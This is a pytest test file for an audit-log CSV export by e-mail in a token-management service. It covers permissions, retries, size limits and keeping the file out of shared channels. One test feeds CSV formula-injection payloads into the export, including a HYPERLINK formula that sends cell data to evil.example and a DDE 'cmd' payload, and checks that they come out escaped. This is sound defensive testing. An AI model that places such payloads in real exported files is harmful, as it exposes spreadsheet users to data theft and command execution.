"""The audit log export (issue 8): ``POST /api/v2/audit_logs/export`` answers 202, and the
filtered log arrives as a CSV file attached to an e-mail to the admin who asked, through
the real worker and a real SMTP server; nowhere else does the file go."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime, timedelta
from email.message import EmailMessage
from typing import Any

import pytest
from fastapi.testclient import TestClient
from sqlalchemy import select

from tests.conftest import ADMIN_EMAIL, Clock, basic
from tests.receivers import HttpReceiver, SlackStandIn, SmtpReceiver
from tokenry.core import Core
from tokenry.domain.errors import Invalid
from tokenry.notify.worker import deliver_due
from tokenry.operations.account_settings import update_account_settings
from tokenry.operations.audit_log import AuditFilter
from tokenry.operations.context import Actor
from tokenry.operations.create_token import create_token
from tokenry.operations.export_audit_log import COLUMNS, export_audit_log
from tokenry.operations.update_token import update_token
from tokenry.operations.users import create_user
from tokenry.storage.models import AuditEvent, Notification

EXPORT = "/api/v2/audit_logs/export.json"
ZENDESK_COLUMNS = ["id", "created_at", "actor_id", "actor_name", "source_type", "source_id",
                   "source_label", "action", "change_description", "ip_address"]


@pytest.fixture
def settings_overrides(smtp: SmtpReceiver, slack: SlackStandIn) -> dict[str, Any]:
    return {"smtp_host": "127.0.0.1", "smtp_port": smtp.port,
            "smtp_from": "tokenry@example.com", "notification_max_attempts": 3,
            "notification_timeout": 5, "slack_api_url": slack.api_url}


def _attachments(mail: EmailMessage) -> list[EmailMessage]:
    return [part for part in mail.iter_attachments() if isinstance(part, EmailMessage)]


def _csv_rows(smtp: SmtpReceiver) -> list[dict[str, str]]:
    [mail] = smtp.messages
    [attached] = _attachments(mail.message)
    assert attached.get_content_type() == "text/csv"
    assert attached.get_param("charset") == "utf-8"
    raw = attached.get_payload(decode=True)
    assert isinstance(raw, bytes) and raw.startswith(b"id,created_at,")
    assert b"\r\n" in raw  # RFC 4180 line ends
    reader = csv.DictReader(io.StringIO(raw.decode("utf-8"), newline=""))
    assert reader.fieldnames == list(COLUMNS)
    return list(reader)


def _exports(core: Core) -> list[AuditEvent]:
    with core.db.read() as session:
        return list(session.scalars(select(AuditEvent).where(AuditEvent.action == "exported")))


def _outbox(core: Core) -> list[Notification]:
    with core.db.read() as session:
        return list(session.scalars(select(Notification).order_by(Notification.id)))


def _tokens(core: Core, admin_actor: Actor) -> None:
    first = create_token(core, admin_actor, description="first").token
    create_token(core, admin_actor, description="second, \"quoted\"\nover two lines")
    update_token(core, admin_actor, first.id, {"description": "renamed"})


def test_an_admin_gets_202_and_one_email_whose_csv_matches_the_filters(
    client: TestClient, core: Core, admin_actor: Actor, admin_auth: dict[str, str],
    smtp: SmtpReceiver
) -> None:
    _tokens(core, admin_actor)
    query = "?filter[source_type]=api_token&filter[action]=create&sort_order=asc"
    answer = client.post(EXPORT + query, headers=admin_auth)
    assert answer.status_code == 202
    body = answer.json()["audit_log_export"]
    assert body["status"] == "queued" and body["recipient"] == ADMIN_EMAIL
    assert smtp.messages == []  # sent by the worker, not in the request
    assert deliver_due(core).sent == 1
    [mail] = smtp.messages
    assert mail.recipients == [ADMIN_EMAIL]
    assert _attachments(mail.message)[0].get_filename() == body["filename"]
    assert "is attached to the e-mail sent to admin@example.com" in \
        mail.message.get_body(("plain",)).get_content()  # type: ignore[union-attr]

    exported = _csv_rows(smtp)
    listed = client.get("/api/v2/audit_logs.json" + query, headers=admin_auth).json()
    assert body["count"] == listed["count"] == len(exported) == 3  # admin's own token too
    assert [row[c] for row in exported for c in ZENDESK_COLUMNS] == [
        "" if e[c] is None else str(e[c]) for e in listed["audit_logs"] for c in ZENDESK_COLUMNS]
    assert exported[-1]["source_label"].endswith('second, "quoted"\nover two lines')
    assert {row["actor_name"] for row in exported} == {"Administrator"}
    assert deliver_due(core).sent == 0 and len(smtp.messages) == 1


def test_the_export_is_audited_as_exported_by_that_admin(
    client: TestClient, core: Core, admin_actor: Actor, admin_auth: dict[str, str]
) -> None:
    answer = client.post(EXPORT + "?filter[action]=create", headers=admin_auth).json()
    [event] = _exports(core)
    assert event.id == answer["audit_log_export"]["audit_log_id"]
    assert (event.actor_id, event.source_type, event.source_label) == (
        admin_actor.user_id, "audit_log", "action=create")
    body = answer["audit_log_export"]
    assert event.change_description == (
        f"Exported {body['count']} audit events as {body['filename']} to {ADMIN_EMAIL}")
    shown = client.get(f"/api/v2/audit_logs/{event.id}.json", headers=admin_auth).json()
    assert shown["audit_log"]["action_label"] == "Exported"


def test_an_agent_is_forbidden_and_nothing_is_queued(
    client: TestClient, core: Core, admin_actor: Actor
) -> None:
    agent = create_user(core, admin_actor, email="al@example.com", name="Al", role="agent")
    secret = create_token(core, admin_actor, description="al", user_id=agent.id).secret
    answer = client.post(EXPORT, headers=basic("al@example.com", secret))
    assert answer.status_code == 403 and answer.json()["error"] == "Forbidden"
    assert _exports(core) == [] and _outbox(core) == []


def test_with_email_off_for_the_account_the_export_is_refused_and_nothing_is_audited(
    client: TestClient, core: Core, admin_actor: Actor, admin_auth: dict[str, str],
    slack: SlackStandIn
) -> None:
    # a Slack bot token is a private channel, but it cannot carry the file
    update_account_settings(core, admin_actor, {"slack_bot_token": slack.token,
                                                "notify_email": False})
    answer = client.post(EXPORT, headers=admin_auth)
    assert answer.status_code == 409
    assert "turn on the notify_email setting" in answer.json()["description"]
    assert _exports(core) == [] and _outbox(core) == []


class TestWithoutSmtp:
    @pytest.fixture
    def settings_overrides(self) -> dict[str, Any]:
        return {}

    def test_the_export_is_refused_saying_what_to_configure(
        self, client: TestClient, core: Core, admin_actor: Actor, admin_auth: dict[str, str]
    ) -> None:
        update_account_settings(core, admin_actor, {"slack_bot_token": "xoxb-test-bot-token"})
        answer = client.post(EXPORT, headers=admin_auth)
        assert answer.status_code == 409
        assert answer.json()["description"] == (
            "The audit log export is e-mailed to you, but e-mail is not configured on this "
            "server (set TOKENRY_SMTP_HOST).")
        assert _exports(core) == [] and _outbox(core) == []


def test_formulas_in_cells_come_out_defused(
    client: TestClient, core: Core, admin_actor: Actor, admin_auth: dict[str, str],
    smtp: SmtpReceiver
) -> None:
    payloads = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+cmd|' /C calc'!A0",
                "-2+3", "@SUM(1,2)", "\t=1", "\r=1", "plain, text"]
    with core.db.transaction() as session:
        for payload in payloads:
            session.add(AuditEvent(
                account_id=admin_actor.account_id, created_at=core.clock(), actor_id=None,
                actor_label="=cmd()", action="update", source_type="account_setting",
                source_id=None, source_label=payload, via="api",
                change_description=payload))
    client.post(EXPORT + "?filter[source_type]=account_setting&sort=created_at",
                headers=admin_auth)
    deliver_due(core)
    rows = _csv_rows(smtp)
    expected = [p if p == "plain, text" else "'" + p for p in payloads]
    assert [row["source_label"] for row in rows] == expected
    assert [row["change_description"] for row in rows] == expected
    assert {row["actor_name"] for row in rows} == {"'=cmd()"}


def test_shared_channels_get_the_notice_and_never_the_file(
    client: TestClient, core: Core, admin_actor: Actor, admin_auth: dict[str, str],
    hooks: HttpReceiver, slack: SlackStandIn, smtp: SmtpReceiver
) -> None:
    marker = "only-in-the-file-7f3a"
    create_token(core, admin_actor, description=marker)
    slack.add_user(ADMIN_EMAIL)
    update_account_settings(core, admin_actor, {
        "slack_webhook_url": hooks.url("/slack"), "webhook_url": hooks.url("/hook"),
        "slack_bot_token": slack.token})
    client.post(EXPORT, headers=admin_auth)
    assert deliver_due(core).sent == 4  # e-mail, Slack DM, Slack channel, webhook
    assert any(marker in row["source_label"] for row in _csv_rows(smtp))
    shared = [r.body.decode() for r in hooks.requests]
    assert len(shared) == 2 and all("exported the audit log" in text for text in shared)
    assert not any(marker in text or "created_at,actor_id" in text for text in shared)
    [dm] = slack.dms_to(ADMIN_EMAIL)
    assert "attached to the e-mail sent to admin@example.com" in dm and marker not in dm
    assert [row.attachment_name is not None for row in _outbox(core)] == [
        row.channel == "email" for row in _outbox(core)]


def test_the_file_is_sealed_at_rest_and_erased_once_sent(
    client: TestClient, core: Core, admin_auth: dict[str, str]
) -> None:
    client.post(EXPORT, headers=admin_auth)
    with core.db.read() as session:
        [stored] = session.scalars(select(Notification.attachment))
    assert stored is not None and ADMIN_EMAIL not in stored and "api_token" not in stored
    deliver_due(core)
    with core.db.read() as session:
        assert list(session.scalars(select(Notification.attachment))) == [None]


def test_a_failed_send_is_retried_and_the_email_arrives_once(
    client: TestClient, core: Core, admin_auth: dict[str, str], smtp: SmtpReceiver,
    clock: Clock
) -> None:
    smtp.stop()
    client.post(EXPORT, headers=admin_auth)
    assert deliver_due(core).failed == 1
    [row] = _outbox(core)
    assert row.status == "pending" and row.attempts == 1
    smtp.start()
    assert deliver_due(core).sent == 0  # not yet due: backoff
    clock.now += timedelta(minutes=1)
    assert deliver_due(core).sent == 1
    clock.now += timedelta(hours=1)
    assert deliver_due(core).sent == 0
    [mail] = smtp.messages
    assert mail.message["X-Tokenry-Idempotency-Key"] == row.idempotency_key
    assert len(_csv_rows(smtp)) == int(mail.message["Subject"].split()[-2])


def test_more_events_than_an_export_holds_is_refused(
    core: Core, admin_actor: Actor
) -> None:
    for number in range(3):
        create_token(core, admin_actor, description=f"t{number}")
    with pytest.raises(Invalid) as refused:
        export_audit_log(core, admin_actor, AuditFilter(), limit=2)
    assert "filter[created_at]" in refused.value.details and _exports(core) == []
    [reason] = refused.value.details["filter[created_at]"]
    assert "more than the 2 events an export holds" in reason
    tokens = AuditFilter(source_type="api_token")
    assert export_audit_log(core, admin_actor, tokens, limit=3).count == 3
    with pytest.raises(Invalid) as too_large:
        export_audit_log(core, admin_actor, tokens, max_bytes=500)
    assert "more than 500 bytes of CSV" in too_large.value.description
    assert len(_exports(core)) == 1


@pytest.fixture
def cli_env(cli_env: dict[str, str], smtp: SmtpReceiver) -> dict[str, str]:
    return {**cli_env, "TOKENRY_SMTP_HOST": "127.0.0.1", "TOKENRY_SMTP_PORT": str(smtp.port)}


def test_the_command_line_queues_the_same_export(
    core: Core, cli: Any, smtp: SmtpReceiver, clock: Clock
) -> None:
    result = cli("audit", "export", "--source-type", "user", "--json")
    assert result.exit_code == 0, result.output
    assert '"recipient": "admin@example.com"' in result.output
    # the command queued by the real clock, which may be well past the test's by now
    clock.now = datetime.now(UTC) + timedelta(seconds=5)
    assert deliver_due(core).sent == 1
    rows = _csv_rows(smtp)
    assert rows and {row["source_type"] for row in rows} == {"user"}
    [event] = _exports(core)
    assert event.via == "cli" and event.source_label == "source_type=user"


def test_bad_filters_are_refused_and_nothing_is_queued(
    client: TestClient, core: Core, admin_auth: dict[str, str]
) -> None:
    for query in ("filter[source_id]=0", "filter[created_at]=yesterday", "sort_order=up"):
        answer = client.post(f"{EXPORT}?{query}", headers=admin_auth)
        assert answer.status_code == 422, query
    assert client.post(EXPORT).status_code == 401
    assert _exports(core) == [] and _outbox(core) == []
